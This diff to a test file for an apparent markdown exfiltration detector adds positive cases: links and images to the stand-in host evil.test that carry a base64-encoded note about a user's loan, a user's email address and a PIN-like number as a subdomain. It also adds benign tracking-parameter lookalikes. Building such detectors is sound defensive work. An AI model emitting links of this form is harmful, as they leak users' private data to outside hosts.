@@ -62,6 +62,9 @@ POSITIVES = [
     ("link-to-image-file-word", "[Click here](https://wuzzi.test/logo.png?q=Johann)"),
     ("entity-encoded-destination", "![a](https://evil.test/p.png?d=dana&#64;fastmail.com)"),
     ("entity-encoded-every-character", "![a](https://evil.test/p.png?d=" + "".join(f"&#x{ord(c):x};" for c in "dana@fastmail.com") + ")"),
+    ("tracking-param-encoded", "![x](https://evil.test/p.png?utm_content=dGhlIHVzZXIgYXNrZWQgYWJvdXQgaGVyIGxvYW4)"),
+    ("tracking-param-email", "[x](https://evil.test/p?ref=dana.whitfield@fastmail.com)"),
+    ("subdomain-pin-beside-its-name", "![x](https://4471.pin.evil.test/p.png)"),
     ("percent-hidden-letters", "<a href=\"https://img.relaystat.test/c.png?m=%4D%61%72%74%61%20%4F%79%65\">invoice</a>"),
 ]
 
@@ -97,6 +100,9 @@ BENIGN = [
     ("github-dependents", "[dependents](https://github.com/psf/requests/network/dependents?package_id=UGFja2FnZS01NzA4OTExNg%3D%3D)"),
     ("link-to-page-with-name", "[profile](https://forum.lumora.test/members?q=Johann)"),
     ("link-to-raw-image", "[full size](https://git.lumora.test/q/l/blob/main/docs/flow.png?raw=true)"),
+    ("click-id", "[x](https://shop.lumora.test/p?fbclid=IwAR2xYz8KqLmN3pQrStUvWx1yZaBcDeFgHiJkLmNoP)"),
+    ("campaign-params", "[x](https://news.lumora.test/2024/05/01/x.html?utm_source=newsletter&utm_campaign=daily&ref=homepage)"),
+    ("pin-header-subdomain", "[docs](https://pin-13.docs.lumora.test/led)"),
     ("irc-client-fragment", "Chat with us at https://kiwiirc.com/nextclient/#ircs://irc.libera.chat:+6697/pypa"),
 ]
 
